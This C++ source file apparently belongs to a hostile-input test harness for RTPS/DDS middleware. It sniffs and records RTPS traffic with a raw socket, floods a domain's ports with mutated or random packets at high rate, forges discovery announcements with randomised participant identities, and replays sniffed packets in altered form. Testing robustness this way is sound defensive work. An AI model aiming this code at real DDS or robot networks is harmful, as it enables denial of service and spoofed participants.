#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <fstream>
#include <random>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "tests/hostile/attack.hpp"

namespace sls::hostile {
namespace {

using namespace std::chrono_literals;
using Bytes = std::vector<std::uint8_t>;

constexpr std::size_t kMaxCaptured = 2000;
constexpr std::size_t kRtpsHeader = 20;  // "RTPS", version, vendor, GUID prefix
constexpr std::size_t kPrefixAt = 8, kPrefixSize = 12;
constexpr int kBurst = 20;  // packets between two pauses of 1 ms: some 15,000 in a second

/// A socket. The destructor closes it.
class Socket {
 public:
  Socket(int family, int type, int protocol) : descriptor_(::socket(family, type, protocol)) {
    if (descriptor_ < 0) throw std::runtime_error("socket");
  }
  ~Socket() { ::close(descriptor_); }
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;
  int descriptor() const { return descriptor_; }

 private:
  const int descriptor_;
};

/// Sends to every port on which the first participant of a host in the domain listens.
class Gun {
 public:
  explicit Gun(const Target& target) : target_(target), socket_(AF_INET, SOCK_DGRAM, 0) {}

  void fire(const Bytes& packet) {
    const int base = 7400 + 250 * target_.domain;
    send("239.255.0.1", base, packet);
    for (const int port : {base + 1, base + 10, base + 11}) send(target_.address, port, packet);
    say_that_it_fires();
    if (++fired_ % kBurst == 0) std::this_thread::sleep_for(1ms);
  }
  std::uint64_t fired() const { return fired_; }

 private:
  void send(const std::string& address, int port, const Bytes& packet) {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<std::uint16_t>(port));
    ::inet_pton(AF_INET, address.c_str(), &to.sin_addr);
    ::sendto(socket_.descriptor(), packet.data(), packet.size(), 0,
             reinterpret_cast<const sockaddr*>(&to), sizeof to);
  }
  const Target target_;
  const Socket socket_;
  std::uint64_t fired_ = 0;
};

/// Reads every RTPS packet that arrives at or leaves this host.
class Sniffer {
 public:
  Sniffer() : socket_(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL)) {
    const timeval patience{0, 50000};
    ::setsockopt(socket_.descriptor(), SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  }

  /// The next RTPS packet's UDP payload; empty if none arrives within 50 ms, or for other packets.
  Bytes next() {
    std::array<std::uint8_t, 65536> frame;
    const auto size = ::recv(socket_.descriptor(), frame.data(), frame.size(), 0);
    if (size < static_cast<ssize_t>(sizeof(iphdr)) || frame[0] >> 4 != 4) return {};
    const std::size_t ip = (frame[0] & 0x0f) * 4u, payload = ip + sizeof(udphdr);
    if (frame[9] != IPPROTO_UDP || static_cast<std::size_t>(size) < payload + kRtpsHeader)
      return {};
    const Bytes packet(frame.begin() + payload, frame.begin() + size);
    return std::equal(packet.begin(), packet.begin() + 4, "RTPS") ? packet : Bytes();
  }

 private:
  const Socket socket_;
};

std::vector<Bytes> read_captured(const std::filesystem::path& file) {
  std::ifstream stream(file, std::ios::binary);
  std::vector<Bytes> packets;
  std::array<char, 2> length;
  while (stream.read(length.data(), 2)) {
    Bytes packet(static_cast<std::uint8_t>(length[0]) | static_cast<std::uint8_t>(length[1]) << 8);
    stream.read(reinterpret_cast<char*>(packet.data()),
                static_cast<std::streamsize>(packet.size()));
    packets.push_back(packet);
  }
  if (packets.empty()) throw std::runtime_error("nothing captured in " + file.string());
  return packets;
}

/// Truncates the packet, changes bytes, or both. Byte values typical of lengths are more frequent.
void mutate(Bytes& packet, std::size_t from, std::mt19937_64& random) {
  const auto kind = random() % 4;
  if (kind != 0 && packet.size() > from) {
    const std::array<std::uint8_t, 6> telling = {0x00, 0xff, 0x7f, 0x80, 0x01, 0xfe};
    for (auto changes = 1 + random() % 8; changes > 0; --changes)
      packet[from + random() % (packet.size() - from)] =
          random() % 2 ? telling[random() % telling.size()] : static_cast<std::uint8_t>(random());
  }
  if (kind < 2) packet.resize(random() % (packet.size() + 1));
}

Bytes make_random_bytes(std::mt19937_64& random) {
  Bytes packet(random() % 1400);
  for (auto& byte : packet) byte = static_cast<std::uint8_t>(random());
  if (packet.size() > 4 && random() % 2) std::copy_n("RTPS", 4, packet.begin());
  return packet;
}

bool is_announcement(const Bytes& packet) {
  const std::array<std::uint8_t, 4> writer = {0x00, 0x01, 0x00, 0xc2};  // of SPDP
  return std::search(packet.begin() + kRtpsHeader, packet.end(), writer.begin(), writer.end()) !=
         packet.end();
}

}  // namespace

std::uint64_t capture(const Target& target, const std::filesystem::path& file) {
  Sniffer sniffer;
  std::ofstream stream(file, std::ios::binary);
  std::size_t count = 0;
  while (goes_on(target) && count < kMaxCaptured) {
    const Bytes packet = sniffer.next();
    if (packet.empty()) continue;
    stream.put(static_cast<char>(packet.size() & 0xff)).put(static_cast<char>(packet.size() >> 8));
    stream.write(reinterpret_cast<const char*>(packet.data()),
                 static_cast<std::streamsize>(packet.size()));
    ++count;
  }
  return count;
}

std::uint64_t fire_packets(const Target& target, const std::filesystem::path& captured) {
  const auto packets = read_captured(captured);
  std::mt19937_64 random(target.seed);
  Gun gun(target);
  while (goes_on(target)) {
    Bytes packet = random() % 4 ? packets[random() % packets.size()] : make_random_bytes(random);
    mutate(packet, 0, random);
    gun.fire(packet);
  }
  return gun.fired();
}

std::uint64_t announce_forgeries(const Target& target, const std::filesystem::path& captured,
                                 std::uint64_t most) {
  const auto packets = read_captured(captured);
  const auto found = std::find_if(packets.begin(), packets.end(), is_announcement);
  if (found == packets.end()) throw std::runtime_error("no announcement captured");
  const Bytes known(found->begin() + kPrefixAt, found->begin() + kPrefixAt + kPrefixSize);
  std::mt19937_64 random(target.seed);
  Gun gun(target);
  while (goes_on(target) && gun.fired() < most) {
    Bytes packet = *found, prefix = known;
    for (std::size_t i = 2; i < prefix.size(); ++i) prefix[i] = static_cast<std::uint8_t>(random());
    for (auto at = packet.begin();;) {
      at = std::search(at, packet.end(), known.begin(), known.end());
      if (at == packet.end()) break;
      at = std::copy(prefix.begin(), prefix.end(), at);
    }
    gun.fire(packet);
  }
  return gun.fired();
}

std::uint64_t spoof(const Target& target) {
  Sniffer sniffer;
  std::mt19937_64 random(target.seed);
  Gun gun(target);
  while (goes_on(target)) {
    Bytes packet = sniffer.next();
    if (packet.empty() || random() % 8) continue;  // also reads its own packets
    mutate(packet, kRtpsHeader, random);
    gun.fire(packet);
  }
  return gun.fired();
}

}  // namespace sls::hostile
